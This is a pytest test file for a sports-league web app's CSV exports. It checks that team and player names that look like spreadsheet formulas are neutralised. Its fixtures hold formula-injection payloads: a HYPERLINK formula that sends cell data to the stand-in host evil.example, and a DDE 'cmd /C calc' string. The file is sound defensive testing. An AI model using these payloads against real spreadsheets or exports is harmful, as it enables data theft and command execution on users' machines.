"""CSV formula injection: a name a coach typed never reaches a spreadsheet as a formula, through any CSV the
service answers (OWASP "CSV Injection": a quote in front of a formula-like text cell, every field quoted), and
numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv import csv_bytes, neutralised
from dugout.api.players import CSVRenderer

from .conftest import full_team

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_like_text_cell_gets_a_quote_in_front(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Home", "", "1", "O'Brien", " =1", "a=b", "-3", "-0.5", "12.25"])
def test_other_text_and_plain_numbers_as_text_are_left_alone(value):
    assert neutralised(value) == value


@pytest.mark.parametrize(("value", "written"), [(-3, -3), (0, 0), (2.5, 2.5), (True, True), (None, "")])
def test_numbers_and_booleans_stay_what_they_are(value, written):
    assert neutralised(value) == written


def test_every_field_is_quoted_and_numbers_are_read_back_as_numbers():
    body = csv_bytes(["team_name", "goal_difference", "note"], [{"team_name": FORMULA, "goal_difference": -3}])
    lines = body.decode().split("\r\n")
    assert lines[0] == '"team_name","goal_difference","note"'
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","-3",""'
    # A comma or a line break inside a cell stays in that cell.
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [{"a": "x,\n=1"}]).decode())))
    assert rows == [["a"], ["x,\n=1"]]


@pytest.fixture
def formula_teams(league, coach, other_coach, play):
    """Two teams and a player of each named as formulas; one match played (the formula team loses 0-3, so its
    goal difference is negative), the formula player scoring for the other side."""
    home = full_team(league, coach, FORMULA)
    away = full_team(league, other_coach, "@SUM(1+1)")
    evil = home.players.order_by("pk").first()
    scorer = away.players.order_by("pk").first()
    evil.name = "-2+3"
    evil.save(update_fields=["name"])
    scorer.name = "+cmd|' /C calc'!A0"
    scorer.save(update_fields=["name"])
    body = {
        "teams": [{"team": home.pk, "score": 1}, {"team": away.pk, "score": 3}],
        "players": [{"player": scorer.pk, "touchdowns": 3}, {"player": evil.pk, "touchdowns": 1}],
    }
    play(home, away, body, coach, other_coach)
    return home, away


def test_standings_csv_neutralises_a_formula_team_name(api, league, formula_teams):
    response = api.get(f"/api/v1/leagues/{league.pk}/standings/?format=csv")
    raw = response.content.decode()
    rows = read_csv(response)
    header, lines = rows[0], rows[1:]
    by_name = {line[header.index("name")]: dict(zip(header, line, strict=True)) for line in lines}
    assert set(by_name) == {"'" + FORMULA, "'@SUM(1+1)"}
    # Every field quoted; the numbers stay plain numbers, the formula team's negative difference too.
    assert all(line.startswith('"') and line.endswith('"') for line in raw.split("\r\n") if line)
    assert by_name["'" + FORMULA]["difference"] == "-2" and by_name["'@SUM(1+1)"]["difference"] == "2"
    assert by_name["'" + FORMULA]["points"] == "0" and by_name["'@SUM(1+1)"]["points"] == "3"


def test_leaders_csv_neutralises_formula_player_and_team_names(api, league, formula_teams):
    rows = read_csv(api.get(f"/api/v1/leagues/{league.pk}/leaders/?stat=touchdowns&season=all&format=csv"))
    assert rows[0] == ["position", "player", "name", "team", "team_name", "value"]
    cells = {(line[2], line[4], line[5]) for line in rows[1:]}
    assert cells == {("'+cmd|' /C calc'!A0", "'@SUM(1+1)", "3"), ("'-2+3", "'" + FORMULA, "1")}


def test_the_csv_renderer_writes_through_the_same_writer():
    """What else DRF answers in the CSV format (an error's fields) is neutralised alike."""
    body = CSVRenderer().render({"detail": FORMULA, "count": -3}).decode()
    assert body.split("\r\n")[:2] == ['"detail","count"', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","-3"']
